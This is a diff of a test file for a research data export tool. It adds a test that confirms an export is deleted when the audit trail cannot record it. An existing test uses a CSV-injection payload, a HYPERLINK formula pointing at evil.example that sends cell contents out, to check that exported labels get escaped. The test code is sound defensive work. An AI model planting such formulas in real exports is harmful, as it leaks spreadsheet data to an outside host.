@@ -1,7 +1,8 @@
 // Text a user typed cannot become a spreadsheet formula in an exported CSV (OWASP CSV-injection guidance),
-// while BIDS TSV keeps it exact; numbers, negative ones included, stay numbers.
+// while BIDS TSV keeps it exact; numbers, negative ones included, stay numbers. And nothing leaves unaudited.
 import fs from 'node:fs';
 import path from 'node:path';
+import Database from 'better-sqlite3';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { exportRequest } from '../../common/reports.ts';
 import { runExport } from './research-export.ts';
@@ -31,4 +32,17 @@ test('an exported marker label is escaped in _markers.csv and exact in events.ts
   expect(markers).toBe(`t_s,label\n6,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n`);
   const events = fs.readFileSync(path.join(result.path, 'sub-CSV1/ses-1/beh/sub-CSV1_ses-1_task-rppg_events.tsv'), 'utf8');
   expect(events).toBe(`onset\tduration\ttrial_type\n6\t0\t${FORMULA}\n`);
+});
+
+test('an export the audit trail cannot record (database locked by another program) is removed again', async () => {
+  const destination = fs.mkdtempSync(path.join(t.dir, 'out-'));
+  const other = new Database(path.join(t.store.dataDir, 'pulse-studio.db'));
+  other.exec('BEGIN IMMEDIATE');
+  try {
+    const run = runExport(t.store, exportRequest.parse({ studyId: 1, sessionIds: [recorded.sessionId], destination }), { appVersion: 'test' });
+    await expect(run).rejects.toMatchObject({ code: 'busy', message: expect.stringMatching(/was removed again: it could not be recorded in the audit trail/) });
+  } finally {
+    other.close();
+  }
+  expect(fs.readdirSync(destination)).toEqual([]);
 });
